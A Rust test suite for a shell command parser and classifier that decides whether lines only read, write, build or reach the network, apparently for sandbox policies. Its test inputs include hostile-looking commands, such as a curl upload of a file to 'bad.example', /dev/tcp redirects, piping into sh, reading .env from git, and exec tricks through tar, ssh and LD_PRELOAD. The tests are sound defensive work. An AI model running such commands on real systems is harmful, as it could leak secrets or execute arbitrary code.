//! Command lines as read: the corpus of hostile and of ordinary ones, and lines of our own.

use machine::shell::known::{Deeds, Kind, Known, look};
use machine::shell::{Reading, Word, read};
use serde_json::Value;

const HOSTILE: &str = include_str!("../../../../corpus/shell.jsonl");
const ORDINARY: &str = include_str!("../../../../corpus/shell-benign.jsonl");

/// The cases of a corpus file as id, policy and text.
fn cases(file: &str) -> Vec<(String, String, String)> {
    let text = |case: &Value, key: &str| case[key].as_str().unwrap_or_default().to_owned();
    let lines = file.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    lines
        .filter(|case| case.get("in").is_some())
        .map(|case| (text(&case, "id"), text(&case, "policy"), filled(&text(&case, "in"))))
        .collect()
}

fn filled(text: &str) -> String {
    text.replace("{{CANARY}}", "/outside/canary")
        .replace("{{OUTSIDE}}", "/outside")
        .replace("{{SECRET_FILE}}", "/outside/secret")
        .replace("{{WT}}", "/project")
}

/// What every run of a line does, or why that is not known.
fn understood(reading: &Reading) -> Result<Vec<Deeds>, String> {
    if let Some(unclear) = reading.unclear.first() {
        return Err(format!("{}: {}", unclear.why, unclear.text));
    }
    let deeds = reading.runs.iter().map(|run| match look(run) {
        Known::Understood(deeds) => Ok(deeds),
        Known::Unknown(why) => Err(why),
    });
    deeds.collect()
}

/// Whether a line only looks, below the folder, and writes nothing.
fn only_looks(text: &str) -> bool {
    let reading = read(text);
    let Ok(all) = understood(&reading) else { return false };
    let outside = |word: &Word| word.plain().is_none_or(|text| text.starts_with("/outside"));
    all.iter().all(|deeds| deeds.kind == Kind::Look && !deeds.reads.iter().any(outside))
        && reading
            .runs
            .iter()
            .all(|run| !run.redirects.iter().any(|redirect| outside(&redirect.target)))
}

#[test]
fn no_hostile_line_of_the_corpus_only_looks() {
    let hostile = cases(HOSTILE);
    assert!(hostile.len() > 100);
    let seen: Vec<_> = hostile
        .iter()
        .filter(|(_, policy, _)| policy != "allow-all-in-sandbox" && only_looks_case(policy))
        .filter(|(_, _, text)| only_looks(text))
        .collect();
    assert!(seen.is_empty(), "{seen:#?}");
}

fn only_looks_case(policy: &str) -> bool {
    matches!(policy, "readonly" | "readonly-deny-secret" | "dev" | "deny-touch")
}

#[test]
fn every_hostile_line_that_runs_touch_names_it_or_is_unclear() {
    for (id, policy, text) in cases(HOSTILE).iter().filter(|(_, policy, _)| policy == "deny-touch")
    {
        let reading = read(text);
        let named = reading
            .runs
            .iter()
            .any(|run| run.argv.first().is_some_and(|word| word.text().ends_with("touch")));
        assert!(named || !reading.unclear.is_empty(), "{id} {policy} {text}: {reading:#?}");
    }
}

#[test]
fn every_ordinary_line_of_the_corpus_is_understood() {
    let ordinary = cases(ORDINARY);
    assert!(ordinary.len() > 30);
    let missed: Vec<_> = ordinary
        .iter()
        .filter_map(|(id, _, text)| understood(&read(text)).err().map(|why| (id, text, why)))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

/// The programs of a clear line, in the order of the text.
fn programs(text: &str) -> Vec<String> {
    let reading = read(text);
    assert!(reading.unclear.is_empty(), "{text:?} is unclear: {:?}", reading.unclear);
    let names = reading.runs.iter().filter_map(|run| run.argv.first());
    names.map(|word| word.text().to_owned()).collect()
}

#[test]
fn every_place_where_a_command_can_stand_is_read() {
    let lines = [
        ("a && b || c; d & e\nf", "a b c d e f"),
        ("a | b |\n c", "a b c"),
        ("! a && b", "a b"),
        ("(a; b) && { c; d; }", "a b c d"),
        ("if a; then b; elif c; then d; else e; fi", "a b c d e"),
        ("while a; do b; done; until c; do d; done", "a b c d"),
        ("for x in $(a) b; do c; done", "a c"),
        ("for x in *\ndo a \"$x\"\ndone", "a"),
        ("case $(a) in b|c) d;; (*) e; esac", "a d e"),
        ("a $(b `c`) \"$(d)\" ${x:-$(e)} `f`", "a b c d e f"),
        ("a <<E | b\ntext $(c) `d`\nE\ne", "a b c d e"),
        ("a <<'E'\ntext $(c)\nE\nb", "a b"),
        ("a <<-E\n\ttext\n\tE\nb", "a b"),
        ("x=$(a) y=`b`", "a b"),
        ("a \"$(b <<'E'\nx\nE\n)\"", "a b"),
        ("a # b\nc#d", "a c#d"),
        ("a \\\n; b", "a b"),
        ("t''ou\"c\"h\\ x", "touch x"),
        ("time a b", "time a"),
        ("a 2>&1 >b <c", "a"),
        ("echo $((1 + 2)) 'b; c' \"d; e\"", "echo"),
    ];
    for (line, expected) in lines {
        let expected: Vec<&str> = match line.starts_with("t''") {
            true => vec![expected],
            false => expected.split(' ').collect(),
        };
        assert_eq!(programs(line), expected, "{line:?}");
    }
}

#[test]
fn a_wrapper_and_what_it_starts_are_runs_of_their_own() {
    let lines = [
        ("env -i LANG=C touch x", "env touch"),
        ("env -S 'LANG=C touch x'", "env touch"),
        ("nice -n 5 timeout -k 1 5 stdbuf -oL touch x", "nice timeout stdbuf touch"),
        ("sudo -u someone touch x", "sudo touch"),
        ("xargs -0 -n1 touch", "xargs touch"),
        ("xargs", "xargs echo"),
        ("bash -c 'touch x; rm y'", "bash touch rm"),
        ("sh -ec 'eval \"touch x\"'", "sh eval touch"),
        ("find . -name '*.o' -exec rm {} + -exec touch {} \\;", "find rm touch"),
        ("git submodule foreach 'touch x && rm y'", "git touch rm"),
        ("git bisect run touch x", "git touch"),
        ("git rebase -x 'touch x' main", "git touch"),
        ("command touch x", "command touch"),
        ("/usr/bin/env /bin/touch x", "/usr/bin/env /bin/touch"),
        ("flock lock -c 'touch x'", "flock touch"),
        ("chroot / unshare -r setsid nohup touch x", "chroot unshare setsid nohup touch"),
    ];
    for (line, expected) in lines {
        assert_eq!(programs(line), expected.split(' ').collect::<Vec<_>>(), "{line:?}");
    }
    let reading = read("env nice touch x > y");
    let inner = reading.runs.last().unwrap();
    assert_eq!(inner.through, ["env", "nice"]);
    assert_eq!(inner.redirects.len(), 1);
}

#[test]
fn what_the_shells_read_differently_or_the_text_does_not_tell_is_unclear() {
    let lines = [
        "a |& b",
        "a &> b",
        "a >& b",
        "a <<< b",
        "a <(b)",
        "$'a'",
        "a $\"b\"",
        "a {b,c}",
        "a {1..3}",
        "[[ a ]]",
        "((1))",
        "a $((x))",
        "a $[1]",
        "a ${x/y/z}",
        "a ${!x}",
        "a ${x@P}",
        "a ${x[1]}",
        "a ${x:1}",
        "f() { a; }",
        "function f { a; }",
        "coproc a",
        "select x in a; do b; done",
        "a() (b)",
        "x+=1",
        "x=(a b)",
        "x[0]=1",
        "10>a b",
        "{fd}>a b",
        "a 2>&1-",
        "a ~root",
        "$x",
        "*",
        "a*",
        "alias a=b",
        "trap a EXIT",
        ". a",
        "source a",
        "eval $x",
        "exec a",
        "hash -p a b",
        "enable -f a b",
        "history -w",
        "set -C",
        "shopt -s extglob",
        "read 'a[x]'",
        "unset 'a[x]'",
        "printf -v x y",
        "printf '%n' PATH",
        "printf \"$x\" y",
        "test -v x",
        "[ -v 'a[x]' ]",
        "[ $x ]",
        "PATH=. ls",
        "export PATH=.",
        "LD_PRELOAD=x ls",
        "x=1 ls",
        "for PATH in a; do ls; done",
        "IFS=,",
        "HOME=/tmp",
        "GIT_DIR=x git status",
        "LANG=../x ls",
        "a\u{a0}b",
        "a\u{200b}",
        "a\rb",
        "a\0b",
        "a\u{202e}b",
        "a \u{e0041}",
        "a 'b",
        "a \"b",
        "a `b",
        "a $(b",
        "a <<E\nb",
        "a;;b",
        "a && ",
        "( )",
        "if a; then fi",
        "a )",
        "} ",
        "fi",
        "{ a }",
        "a (b)",
        "python3 -c x",
        "perl -e x",
        "node -e x",
        "ruby -e x",
        "a | sh",
        "sh",
        "bash -s",
        "python3",
        "bash -lc a",
        "awk 'BEGIN{system(\"a\")}'",
        "sed 's/a/b/e'",
        "sed '1e a'",
        "make X=y",
        "make -f -",
        "git -c a.b=c log",
        "tar --checkpoint-action=exec=a",
        "tar cf x -I a b",
        "rsync -e a b c",
        "ssh -o ProxyCommand=a b",
        "parallel a",
        "find . -exec a",
        "xargs sh -c",
        "env $x",
        "sudo $x",
        "env --unknown a",
        "time ! a",
        "time -v a",
        "time -p a",
        "time -- a",
        "jobs -x a",
        "a $(cat <<E\nx\nE\nb;c)",
        "wait -p x",
        "wait $x",
        "a $(( 1 ) )",
        "cat <<E $(a\nE\n)",
        "a > b*",
        "a > /dev/tcp/x/1",
        "%1",
        "a\\",
        "a &&\\\n& b",
        "> 2>a",
        "less a",
        "man a",
        "zip -TT a",
        "export x",
        "typeset x=1",
        "declare -x x=1",
        "let x=1",
        "local x",
    ];
    for line in lines {
        assert!(
            !read(line).unclear.is_empty(),
            "{line:?} is taken for clear: {:?}",
            read(line).runs
        );
    }
}

#[test]
fn words_are_plain_only_if_they_are_certain() {
    let reading = read("a 'b c' d\\ e \"f$\" g* '*' $x \"$x\" ~/h [ i=j \"k\\\"\\x\"");
    let words: Vec<String> = reading.runs[0].argv.iter().map(|word| format!("{word:?}")).collect();
    insta::assert_snapshot!(words.join("\n"), @r#"
    Plain("a")
    Plain("b c")
    Plain("d e")
    Plain("f$")
    Pattern("g*")
    Plain("*")
    Unknown("$x")
    Unknown("\"$x\"")
    Unknown("~/h")
    Plain("[")
    Plain("i=j")
    Plain("k\"\\x")
    "#);
}

#[test]
fn programs_are_known_by_their_arguments() {
    let kinds = [
        ("ls -la *.rs", "Look"),
        ("sort -u a | uniq -c | head -20", "Look"),
        ("git log --oneline -5 -- src && git branch --list", "Look"),
        ("find . -type f -name '*.rs' -newer a", "Look"),
        ("sed -n '1,20p;$p' a && awk '{print $1}' a && jq -r .name a", "Look"),
        ("cd src && cat m.rs && test -f a -a -d b", "Look"),
        ("for f in a b; do wc -l \"$f\"; done", "Look"),
        ("cat a | while IFS= read -r line; do echo \"$line\"; done", "Look"),
        (
            "mkdir -p a && cp b a/ && mv a c && rm -rf c && chmod 644 d && sed -i 's/a/b/g' e",
            "Change",
        ),
        ("find . -name '*.o' -delete", "Change"),
        ("cargo test --workspace -- --nocapture", "Build"),
        ("RUST_BACKTRACE=1 cargo run --release -- --anything", "Build"),
        (
            "npm run build && npx tsc --noEmit && make -j4 all && go test ./... -run X && python3 -m pytest -x tests",
            "Build",
        ),
        ("python3 tool.py && node x.js && bash build.sh", "Build"),
        (
            "git add -A && git commit -m 'x' && git checkout -b y && git stash && git tag v1",
            "Record",
        ),
        ("git push origin main", "Reach"),
        ("curl -fsSL https://example.org/x -o y", "Reach"),
        (
            "npm install && pip install x && cargo add serde && git clone https://example.org/x",
            "Reach",
        ),
    ];
    for (line, expected) in kinds {
        let all = understood(&read(line)).unwrap_or_else(|why| panic!("{line}: {why}"));
        let highest = all.iter().map(|deeds| deeds.kind).max().unwrap();
        assert_eq!(format!("{highest:?}"), expected, "{line}");
    }
}

#[test]
fn options_that_do_more_are_not_known() {
    let lines = [
        "sort -o a b",
        "sort --compress-program=a b",
        "sort --comp=a b",
        "tree -o a",
        "uniq a b",
        "rg --pre a b",
        "git diff --output=a",
        "git log --ext-diff",
        "git grep -Oa b",
        "git commit",
        "git config a b",
        "git unknown",
        "find . -fprint a",
        "find . -fls a",
        "wc --files0-from=a",
        "date -s a",
        "date 01010101",
        "xxd -r a b",
        "cargo --config a build",
        "cargo build --config a",
        "make SHELL=a",
        "npm --prefix /x test",
        "npm exec a",
        "npx a",
        "go test -exec a",
        "go build -toolexec a",
        "env",
        "env LANG=C",
        "ln -s /x y",
        "cp -l a b",
        "file -C",
        "jq -n env",
        "jq '$ENV.x'",
        "curl -K a",
        "curl --unix-socket a b",
        "curl file:///a",
        "./a",
        "tar xf a",
        "dd if=a of=b",
        "sort $x",
        "sort *",
        "git diff $x",
        "cp $x b",
        "printenv",
        "xargs -a x cat",
        "docker run a",
        "dotnet tool install a",
    ];
    for line in lines {
        assert!(
            understood(&read(line)).is_err(),
            "{line:?} is taken for understood: {:?}",
            understood(&read(line))
        );
    }
}

#[test]
fn hosts_and_paths_are_told() {
    let deeds = |line: &str| understood(&read(line)).unwrap().remove(0);
    let plain =
        |words: &[Word]| words.iter().map(|word| word.text().to_owned()).collect::<Vec<_>>();
    assert_eq!(plain(&deeds("curl good.example:x@bad.example/y").hosts), ["bad.example"]);
    assert_eq!(plain(&deeds("curl https://a@Bad.example:8080/y -d @z").hosts), ["bad.example"]);
    assert_eq!(plain(&deeds("curl https://bad.example -d @z").reads), ["z"]);
    assert_eq!(
        deeds("curl 'http://{a,b}.example'").hosts,
        [Word::Unknown("http://{a,b}.example".into())]
    );
    assert_eq!(plain(&deeds("git push git@host.example:x/y main").hosts), ["host.example"]);
    assert_eq!(plain(&deeds("scp a host.example:b").hosts), ["host.example"]);
    assert_eq!(plain(&deeds("cp a b c").writes), ["c"]);
    assert_eq!(plain(&deeds("mv a b c").writes), ["a", "b", "c"]);
    assert_eq!(plain(&deeds("git checkout HEAD~1 -- a b").writes), ["HEAD~1", "a", "b"]);
    assert_eq!(plain(&deeds("git checkout a").writes), ["a", "."]);
    assert_eq!(plain(&deeds("git checkout -b new a").writes), ["a", "."]);
    assert_eq!(plain(&deeds("git checkout -b new").writes), [""; 0]);
    assert_eq!(plain(&deeds("git stash push a").writes), ["a"]);
    assert_eq!(plain(&deeds("git stash -- a").writes), ["a"]);
    assert_eq!(plain(&deeds("git stash pop").writes), ["."]);
    assert_eq!(plain(&deeds("git stash drop").writes), [""; 0]);
    assert_eq!(plain(&deeds("git show HEAD:.env").reads), ["HEAD:.env", ".env"]);
    assert_eq!(plain(&deeds("git cat-file -p :0:a:b").reads), [":0:a:b", "0:a:b", "a:b", "b"]);
    assert_eq!(plain(&deeds("grep -rn x src lib").reads), ["src", "lib"]);
    assert_eq!(deeds("cd").reads, [Word::Unknown("~".into())]);
}

#[test]
fn depth_is_followed_so_far_and_no_further() {
    let nested = [
        ("(", "a", ")"),
        ("$(", "a", ")"),
        ("\"$(", "a", ")\""),
        ("{ ", "a", "; }"),
        ("${x:-", "a", "}"),
        ("if a; then ", "b", "; fi"),
        ("echo `(", "a", ")`"),
        ("env ", "a", ""),
        ("sudo nice ", "a", ""),
        ("for x in a; do ", "b", "; done"),
        ("case x in x) ", "a", ";; esac"),
        ("cat <<E\n$(", "a", ")\nE\n"),
        ("( ", "a", ")>b"),
    ];
    for (open, inner, close) in nested {
        for times in [100, 20_000] {
            let text = format!("{}{inner}{}", open.repeat(times), close.repeat(times));
            assert!(!read(&text).unclear.is_empty(), "{open} {times}");
        }
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 2 * proptest::prelude::ProptestConfig::default().cases, failure_persistence: None, ..Default::default() })]

    #[test]
    fn any_text_is_read(text in ".{0,200}") {
        let _ = understood(&read(&text));
    }

    #[test]
    fn any_pieces_of_shell_are_read(pieces in proptest::collection::vec(0..PIECES.len(), 0..60)) {
        let text: String = pieces.into_iter().map(|piece| PIECES[piece]).collect();
        let reading = read(&text);
        let _ = understood(&reading);
        for run in &reading.runs {
            proptest::prop_assert!(run.through.len() <= 30);
        }
    }
}

const PIECES: &[&str] = &[
    ";",
    "&",
    "|",
    "(",
    ")",
    "{ ",
    "}",
    "<",
    ">",
    "<<E",
    "\nE\n",
    "\n",
    "'",
    "\"",
    "\\",
    "$",
    "$(",
    "${x",
    ":-",
    "`",
    "#",
    "!",
    "*",
    "[",
    "]",
    "=",
    "~",
    ";;",
    "if ",
    "then ",
    "fi",
    "do ",
    "done",
    "case ",
    " in ",
    "esac",
    "for x",
    "a",
    "é",
    " ",
    "\t",
    "2>",
    "<&",
    "$((",
    "))",
    "1",
    "+",
    "x=",
    "{a,b}",
    "eval ",
    "env ",
    "sh -c ",
    "find . -exec ",
    "xargs ",
    "git ",
    "sed ",
    "awk ",
    "test ",
    "printf ",
    "read ",
    "set ",
    "export ",
    "time ",
    "-S ",
    "\u{202e}",
    "curl ",
    "$'\\x",
];
